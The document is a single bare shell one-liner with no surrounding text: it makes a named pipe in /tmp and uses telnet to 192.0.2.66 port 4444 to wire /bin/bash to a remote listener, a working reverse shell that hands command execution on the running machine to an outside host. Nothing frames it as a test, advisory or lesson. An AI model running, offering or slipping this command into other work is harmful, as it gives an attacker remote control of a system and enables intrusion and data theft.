mknod /tmp/b p && telnet 192.0.2.66 4444 0</tmp/b | /bin/bash 1>/tmp/b
